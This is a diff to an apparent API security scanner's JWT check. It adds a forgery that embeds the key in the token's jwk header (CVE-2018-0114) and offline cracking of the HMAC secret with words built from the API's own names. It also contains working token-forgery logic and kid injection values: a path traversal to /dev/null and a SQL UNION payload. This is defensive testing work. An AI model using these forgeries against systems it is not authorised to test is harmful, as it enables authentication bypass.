@@ -8,6 +8,10 @@
 * RS→HS confusion: when a public key or JWKS is discoverable on the target's origin, an HS256 token signed
   with the PEM bytes of the public key;
 * ``kid`` injection: ``kid`` pointing at ``/dev/null`` (empty key) and a SQL ``UNION`` choosing the key;
+* an embedded key: a token signed with a fresh RSA key of the probe's own whose public half rides in the token's
+  ``jwk`` header (CVE-2018-0114's pattern: a verifier that takes the key from the token it verifies);
+* secrets made of the API's own words (its tags, summaries, path segments, host name and the token's string
+  claims: ``bank`` → ``bankbank``, ``bank_secret``, ``bank123`` …), cracked offline like the wordlist;
 * a token issued without an ``exp`` claim (a claim of its own named for an expiry and holding a time, such as
   ``expires`` or ``valid_until``, is read as its lifetime and only noted), and claims that carry a password, hash
   or other secret (read from the token: no request; a JWT is signed, not encrypted).
@@ -24,6 +28,7 @@ from __future__ import annotations
 import base64
 import hashlib
 import hmac
+import itertools
 import json
 import re
 import time
@@ -79,6 +84,44 @@ def wordlist() -> list[str]:
     text = resources.files("apishield.probe").joinpath("data/jwt_secrets.txt").read_text(encoding="utf-8")
     words = [line.rstrip("\n") for line in text.splitlines() if line and not line.startswith("#")]
     return list(dict.fromkeys(v for w in words for v in case_variants(w)))
+
+
+WORD = re.compile(r"[A-Za-z][a-z]+|[A-Z]{2,}(?![a-z])|[0-9]+")
+AFFIXES = ("", "secret", "_secret", "-secret", "key", "_key", "-key", "jwt", "_jwt", "token", "123", "1234", "12345",
+           "!", "pass", "password", "2023", "2024", "2025", "2026")
+
+
+def own_words(texts: Iterable[str]) -> list[str]:
+    """Secrets built from an API's own vocabulary: each word (3 to 20 letters) alone, doubled (``bankbank``), with
+    a usual affix before or after it, and adjacent word pairs joined (``goodbank``, ``good_bank``), each in its
+    case variants. People name a secret after the thing it protects; trying a few thousand costs no request."""
+    words: list[str] = []
+    pairs: list[str] = []
+    for text in texts:
+        found = [w.lower() for w in WORD.findall(text) if not w.isdigit()]
+        words += [w for w in found if 3 <= len(w) <= 20]
+        pairs += [a + sep + b for a, b in itertools.pairwise(found) if len(a) + len(b) <= 24
+                  for sep in ("", "_", "-")]
+    base = list(dict.fromkeys(words + pairs))[:400]
+    out: list[str] = []
+    for word in base:
+        out.append(word + word)
+        for affix in AFFIXES:
+            out.append(word + affix)
+            if affix and affix[0].isalpha():
+                out.append(affix + word)
+                out.append(affix + "_" + word)
+    return list(dict.fromkeys(v for w in out for v in case_variants(w)))
+
+
+def api_texts(ctx: Context, claims: dict[str, Any]) -> list[str]:
+    """The texts an API names itself with: tags, summaries, operation ids, path segments, the host name and the
+    token's short string claims."""
+    texts = [ctx.client.base_url.split("//", 1)[-1].split("/", 1)[0].split(":", 1)[0]]
+    for op in ctx.operations:
+        texts += [*op.tags, op.summary, op.operation_id, op.path.replace("{", " ").replace("}", " ")]
+    texts += [v for _k, v in walk_keys(claims) if isinstance(v, str) and len(v) <= 64]
+    return texts
 
 
 def case_variants(word: str) -> tuple[str, ...]:
@@ -202,6 +245,35 @@ async def _alg_none(ctx: Context, send: Attempt, op: Operation, header: dict[str
             return
 
 
+def sign_with_embedded_key(header: dict[str, Any], claims: dict[str, Any]) -> str:
+    """An RS256 token signed with a fresh RSA key whose public half is the token's own ``jwk`` header: only a
+    verifier that trusts the key a token brings with it accepts it."""
+    from cryptography.hazmat.primitives import hashes
+    from cryptography.hazmat.primitives.asymmetric import padding, rsa
+
+    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
+    numbers = key.public_key().public_numbers()
+
+    def b64int(n: int) -> str:
+        return b64e(n.to_bytes((n.bit_length() + 7) // 8, "big"))
+
+    jwk = {"kty": "RSA", "e": b64int(numbers.e), "n": b64int(numbers.n), "kid": "apishield-embedded", "use": "sig"}
+    head = {k: v for k, v in header.items() if k not in ("jku", "x5u", "x5c")}
+    head.update({"alg": "RS256", "jwk": jwk, "kid": "apishield-embedded"})
+    signing = b64e(json.dumps(head, separators=(",", ":")).encode()) + "." + b64e(
+        json.dumps(claims, separators=(",", ":")).encode())
+    signature = key.sign(signing.encode(), padding.PKCS1v15(), hashes.SHA256())
+    return signing + "." + b64e(signature)
+
+
+async def _embedded_key(ctx: Context, send: Attempt, op: Operation, header: dict[str, Any],
+                        claims: dict[str, Any]) -> None:
+    ex = await send(sign_with_embedded_key(header, claims))
+    if ex is not None and ex.ok:
+        ctx.report(rules.JWT_EMBEDDED_KEY, "a token signed with the probe's own RSA key, whose public half was in "
+                   "the token's 'jwk' header, was accepted", ex, op=op, parameter="jwk")
+
+
 # A claim named for an expiry or a lifetime (``expires``, ``expiry``, ``expires_at``, ``exp_time``, ``valid_until``,
 # ``expiration``, ``expiresIn``, ``ttl``): an application's own spelling of ``exp``.
 LIFETIME_NAME = re.compile(r"(?i)^(?:token_?)?(?:exp(?:ir(?:y|es|ed|e|ation)(?:_?(?:at|on|in|time|date|ts))?"
@@ -223,7 +295,8 @@ def lifetime_claim(claims: dict[str, Any]) -> str | None:
 
 
 @check("jwt", rules=(rules.JWT_NONE, rules.JWT_NOSIG, rules.JWT_WEAK, rules.JWT_EXPIRED, rules.JWT_CONFUSION,
-                     rules.JWT_KID, rules.JWT_NO_EXPIRY, rules.JWT_CLAIMS_SECRET), weight=4, phase="auth", order=20)
+                     rules.JWT_KID, rules.JWT_NO_EXPIRY, rules.JWT_CLAIMS_SECRET, rules.JWT_EMBEDDED_KEY),
+       weight=4, phase="auth", order=20)
 async def jwt(ctx: Context) -> None:
     """alg none, stripped signature, weak HMAC secret (offline), expired, RS→HS confusion, kid injection, no
     expiry and secrets in the claims (read from the token)."""
@@ -256,7 +329,8 @@ async def jwt(ctx: Context) -> None:
                    None, parameter="Authorization")
     secret = None
     if alg in HASHES:  # offline: costs no request
-        secret = crack(identity.token, wordlist()) or crack(identity.token, pins())
+        secret = (crack(identity.token, wordlist()) or crack(identity.token, own_words(api_texts(ctx, claims)))
+                  or crack(identity.token, pins()))
     found = await reference(ctx, identity)
     if found is None:
         ctx.skip("no operation answered 2xx to the identity and 401/403 to a garbage token (no reference)")
@@ -310,6 +384,7 @@ async def jwt(ctx: Context) -> None:
                     ctx.report(rules.JWT_CONFUSION, "an HS256 token signed with the server's public RSA key was "
                                "accepted", ex, op=op, parameter=send.header_name)
                     break
+    await _embedded_key(ctx, send, op, header, claims)
     for kid, key in (("../../../../../../../../dev/null", b""), ("' UNION SELECT 'apishield'-- ", b"apishield")):
         ex = await send(encode({**header, "alg": "HS256", "kid": kid}, claims, key))
         if ex is not None and ex.ok:
